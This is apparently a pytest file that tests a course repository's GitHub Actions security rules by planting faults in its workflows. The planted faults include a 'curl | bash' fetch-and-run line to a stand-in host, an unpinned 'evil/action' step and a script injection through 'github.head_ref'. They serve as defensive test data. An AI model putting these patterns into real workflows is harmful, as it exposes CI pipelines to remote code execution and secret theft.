"""Our workflows and actions keep the rules of `rules.py`, and each rule finds a planted fault."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
import yaml
from msgspec.structs import replace

from tests.conftest import ROOT
from tests.workflows import repository_rules, rules
from tests.workflows.rules import File, Rule
from tito import course as course_module
from tito.course import Branches, BranchRule, Environment

WORKFLOW = rules.GITHUB / "workflows/pull-request.yml"
REPORT = rules.GITHUB / "workflows/report.yml"
SUITE = rules.GITHUB / "workflows/test-suite.yml"
SECURITY = rules.GITHUB / "workflows/security.yml"
SETUP = rules.GITHUB / "actions/setup/action.yml"
BRANCHES = course_module.load(ROOT).branches
GUARDS: dict[str, Any] = {
    "made": BranchRule("made", tags=("v*",), made_by="admin"),
    "stay": BranchRule("stay", tags=("v*",)),
    "release": Environment("release", reviewers=("ada",), tags=("v*",)),
}
STEP = "      - name: Set up tito\n"


@pytest.mark.parametrize("rule", rules.RULES, ids=lambda rule: rule.__name__)
def test_every_workflow_and_action_keeps_the_rule(rule: Rule) -> None:
    files = rules.files()
    assert {WORKFLOW, REPORT, SUITE, SECURITY, SETUP} <= {ROOT / file.name for file in files}
    assert {file.name: list(rule(file)) for file in files} == {file.name: [] for file in files}


def job(text: str) -> str:
    """A further job for a workflow."""
    return f"\n  more:\n    permissions: {{}} # none\n    timeout-minutes: 1\n{text}"


PUBLISHES = ("  integration:\n", "  release:\n    environment: release\n  integration:\n")
PLANTED = [
    (rules.permissions, WORKFLOW, "permissions: {}\n\n", "permissions: read-all\n\n"),
    (rules.permissions, WORKFLOW, "permissions: {}\n\n", ""),
    (rules.permissions, WORKFLOW, "    permissions: {} # student code runs here\n", ""),
    (rules.permissions, WORKFLOW, "    permissions: {} # student", "    permissions: {}\n# student"),
    (rules.permissions, REPORT, " # to write the comment", ""),
    (rules.permissions, REPORT, "    permissions:\n      contents", "    permissions: write-all\n    x:\n      contents"),
    (rules.pinned, WORKFLOW, "# v7.0.1", "# v7"),
    (rules.pinned, WORKFLOW, "checkout@3d3c42e5", "checkout@00000000"),
    (rules.pinned, WORKFLOW, "checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1", "checkout@v7"),
    (rules.pinned, WORKFLOW, "actions/checkout@", "elsewhere/checkout@"),
    (rules.pinned, WORKFLOW, "./.github/actions/export", "./.github/actions/exprt"),
    (rules.pinned, WORKFLOW, STEP, "      - {name: Hidden, uses: evil/action@main}\n" + STEP),
    (rules.pinned, SETUP, "setup-python@5fda3b95", "setup-python@5fda3b96"),
    (rules.credentials, WORKFLOW, "          persist-credentials: false\n", ""),
    (rules.credentials, REPORT, "persist-credentials: false", "persist-credentials: true"),
    (rules.no_expression_in_a_script, WORKFLOW, '--head "$HEAD"', '--head "${{ github.head_ref }}"'),
    (rules.no_expression_in_a_script, SETUP, "requirements/$REQUIREMENTS", "requirements/${{ inputs.requirements }}"),
    (rules.no_pull_request_target, WORKFLOW, "  pull_request:\n", "  pull_request_target:\n"),
    (rules.default_branch_only, REPORT, "          persist-credentials: false\n", "          persist-credentials: false\n          ref: ${{ github.event.workflow_run.head_sha }}\n"),
    (rules.default_branch_only, REPORT, "        run: python", "        run: git fetch origin pull/1/head && python"),
    (rules.secrets_in_environments, REPORT, "${{ github.token }}\n        run", "${{ secrets.TOKEN }}\n        run"),
    (rules.secrets_in_environments, SETUP, "${{ inputs.requirements }}", "${{ secrets.REQUIREMENTS }}"),
    (rules.timeouts, WORKFLOW, "    timeout-minutes: 30\n", ""),
    (rules.concurrency, WORKFLOW, "github.event.pull_request.number || github.ref", "github.workflow"),
    (rules.concurrency, WORKFLOW, "github.event.pull_request.number || github.ref", "github.event.pull_request.number"),
    (rules.concurrency, REPORT, "workflow_run.head_branch", "workflow_run.id"),
    (rules.concurrency, REPORT, "workflow_run.head_sha", "workflow_run.head_branch"),
    (rules.concurrency, WORKFLOW, *PUBLISHES),
    (rules.concurrency, WORKFLOW, "${{ github.event_name == 'pull_request' }} # each", "true # each"),
    (rules.identity, WORKFLOW, "contents: read # to", "id-token: write # to"),
    (rules.no_cache_in_a_release, WORKFLOW, "  integration:\n", job("    environment: release\n    steps:\n      - uses: actions/cache@v4\n") + "\n  integration:\n"),
    (rules.no_cache_in_a_release, WORKFLOW, "  integration:\n", job("    environment: release\n    steps:\n      - uses: actions/setup-python@v4\n        with: {cache: pip}\n") + "\n  integration:\n"),
    (rules.locked_requirements, SETUP, "--require-hashes -r", "-r"),
    (rules.locked_requirements, REPORT, "        run: python", "        run: pip install PyGithub && python"),
    (rules.locked_requirements, REPORT, "        run: python", "        run: python -m pip --quiet install PyGithub && python"),
    (rules.locked_requirements, REPORT, "        run: python", "        run: uvx tool && python"),
    (rules.locked_requirements, REPORT, "        run: python", "        run: curl -s https://x.example | bash && python"),
    (rules.random_delimiters, SETUP, 'echo "origin=$origin"', 'echo "origin<<EOF"; echo "$origin"; echo EOF'),
    (rules.random_delimiters, SETUP, "GITHUB_PATH", "GITHUB_ENV"),
    (rules.results_outside_the_checkout, WORKFLOW, "$RUNNER_TEMP/static/export.json", "results/export.json"),
    (rules.results_outside_the_checkout, WORKFLOW, "${{ runner.temp }}/tito-results", "results"),
    (rules.results_outside_the_checkout, REPORT, "${{ runner.temp }}/fetched", "fetched"),
    (rules.merge_groups, WORKFLOW, "  merge_group:\n", ""),
    (rules.one_verdict, WORKFLOW, "    if: always() #", "    if: ${{ success() }} #"),
    (rules.one_verdict, WORKFLOW, "needs: [static, integration]", "needs: [integration]"),
    (rules.one_verdict, WORKFLOW, '&& [ "$INTEGRATION" = success ]', ""),
    (rules.one_verdict, WORKFLOW, "${{ needs.static.result }}", "success"),
    (rules.one_verdict, WORKFLOW, '[ "$STATIC" = success ]', '[ "$STATIC" != failure ]'),
    (rules.one_verdict, WORKFLOW, "        if: ${{ !cancelled() }}\n        env:\n          STATIC", "        if: ${{ failure() }}\n        env:\n          STATIC"),
    (rules.one_verdict, SUITE, "wanted=skipped", "wanted=success"),
    (rules.one_verdict, SUITE, '"$NBGRADER" "$DOCS"', '"$NBGRADER"'),
    (rules.one_verdict, SUITE, "wanted=success\n", "wanted=$PLAN\n"),
    (rules.one_verdict, SUITE, '[ "$EVENT" = pull_request ]', '[ "$PLAN" = skipped ]'),
    (rules.one_verdict, SUITE, '[ "$result" = "$wanted" ]', '[ "$result" = "$wanted" ] || true'),
    (rules.one_verdict, SUITE, "nbgrader, docs]", "nbgrader]"),
    (rules.release_environment, WORKFLOW, "  integration:\n", job("    environment: production\n") + "\n  integration:\n"),
    (rules.release_environment, WORKFLOW, "  integration:\n", job("    steps: [{run: gh release create v1}]\n") + "\n  integration:\n"),
    (rules.student_code_alone, WORKFLOW, "permissions: {} # student", "permissions: {contents: read} # student"),
    (rules.student_code_alone, WORKFLOW, "    needs: static #", "    # needs: static"),
    (rules.student_code_alone, WORKFLOW, "    needs: static #", "    needs: statics #"),
    (rules.student_code_alone, WORKFLOW, "        uses: ./.github/actions/integration\n", "        uses: ./.github/actions/integration\n        env: {TOKEN: '${{ github.token }}'}\n"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("rule", "path", "old", "new"),
    PLANTED,
    ids=[f"{rule.__name__}-{number}" for number, (rule, *_) in enumerate(PLANTED)],
)
def test_a_planted_fault_is_found(rule: Rule, path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text
    planted = text.replace(old, new, 1)
    yaml.safe_load(planted)
    assert list(rule(File("planted.yml", planted)))


def test_every_rule_has_a_planted_fault() -> None:
    assert {rule for rule, *_ in PLANTED} == set(rules.RULES)


def test_each_of_the_twenty_rules_has_its_function() -> None:
    functions = (*rules.RULES, *repository_rules.RULES)
    numbers = [(rule.__doc__ or "").partition(":")[0] for rule in functions]
    assert {int(each) for each in numbers if each.isdigit()} == set(range(1, 21))
    assert [each for each in numbers if not each.isdigit()] == ["Decision 12"]


def test_every_required_check_is_one_job_that_runs_for_every_merge() -> None:
    required = {check for rule in BRANCHES.rules for check in rule.checks}
    providing = [
        (job.get("name", name), {"pull_request", "merge_group"} <= file.triggers)
        for file in rules.files()
        for name, job in file.jobs.items()
        if job.get("name", name) in required
    ]
    assert sorted(providing) == [(name, True) for name in sorted(required)]


def test_each_commit_that_lands_on_the_default_branch_is_judged() -> None:
    file = File(WORKFLOW.name, WORKFLOW.read_text(encoding="utf-8"))
    on = file.content.get("on", file.content.get(True))
    guarded = {branch for rule in BRANCHES.rules if rule.reviews for branch in rule.branches}
    assert set(on["push"]["branches"]) == guarded == {"main"}
    # A run that waits gives way to the next one of its group, so each push has its own.
    assert "${{ github.event_name == 'push' && github.sha" in file.content["concurrency"]["group"]


def test_releases_are_guarded() -> None:
    assert repository_rules.releases_guarded(BRANCHES) == []
    assert len(repository_rules.releases_guarded(Branches())) == 4
    made, stay, release = GUARDS["made"], GUARDS["stay"], GUARDS["release"]
    for rules_, environments, fault in (
        ((made,), (release,), "moved"),
        ((stay,), (release,), "anybody"),
        ((made, stay), (replace(release, reviewers=()),), "nobody reviews"),
        ((made, stay), (replace(release, branches=("main",)),), "more than tags"),
    ):
        (found,) = repository_rules.releases_guarded(
            Branches(rules=rules_, environments=environments)
        )
        assert fault in found


def test_dependabot_waits() -> None:
    text = (rules.GITHUB / "dependabot.yml").read_text(encoding="utf-8")
    assert repository_rules.cooldown(text) == []
    assert repository_rules.cooldown(text.replace("cooldown: {default-days: 7}", "", 1)) == [
        "no cooldown for pip"
    ]
    assert "nothing for pip" in repository_rules.cooldown(
        text.replace("ecosystem: pip", "ecosystem: npm")
    )


def test_every_ignore_has_a_reason() -> None:
    checked = [path for path in rules.GITHUB.rglob("*") if path.suffix in (".yml", ".sh")]
    faults = {
        path.name: repository_rules.ignored_without_a_reason(path.read_text("utf-8"))
        for path in checked
    }
    assert {name: lines for name, lines in faults.items() if lines} == {}
    configuration = (rules.GITHUB / "zizmor.yml").read_text(encoding="utf-8")
    assert repository_rules.ignored_in_configuration_without_a_reason(configuration) == []


@pytest.mark.parametrize(
    "line",
    [
        "run: | # zizmor: ignore[github-env]",
        "run: | # zizmor: ignore[github-env] yes",
        "# shellcheck disable=SC2086",
        "# yamllint disable-line rule:line-length",
    ],
)
def test_an_ignore_without_a_reason_is_found(line: str) -> None:
    assert repository_rules.ignored_without_a_reason(f"x: 1\n{line}\n") == [line]
    assert repository_rules.ignored_without_a_reason(f"{line} because it is so\n") == []


@pytest.mark.parametrize(
    "text",
    [
        "rules:\n  artipacked:\n    disable: true\n",
        "rules:\n  artipacked:\n    ignore:\n      - a.yml\n",
    ],
)
def test_a_rule_turned_off_without_a_reason_is_found(text: str) -> None:
    assert len(repository_rules.ignored_in_configuration_without_a_reason(text)) == 1


def test_the_gates_have_owners_and_faults_have_an_address() -> None:
    owners = (rules.GITHUB / "CODEOWNERS").read_text(encoding="utf-8")
    for path in ("/.github/", "/tito/", "/bot/", "/tests/", "/classroom.yml", "/requirements/"):
        assert repository_rules.owned(owners, path), path
    assert not repository_rules.owned(owners.replace("/.github/ ", "# /.github/ "), "/.github/")
    assert repository_rules.exists("SECURITY.md")
    assert not repository_rules.exists("SECURITY.rst")


def test_an_environment_that_is_made_has_a_python_of_the_course() -> None:
    version = yaml.safe_load(SETUP.read_text(encoding="utf-8"))["inputs"]["python-version"][
        "default"
    ]
    assert version in course_module.load(ROOT).settings.pythons


def test_the_lock_files_that_workflows_name_exist() -> None:
    named = {
        step.get("with", {}).get("requirements", "base.txt")
        for file in rules.files()
        for step in file.using("./.github/actions/setup")
    }
    assert named == {"base.txt", "bot.txt", "test.txt"}
    assert all(repository_rules.exists(f"requirements/{name}") for name in named)
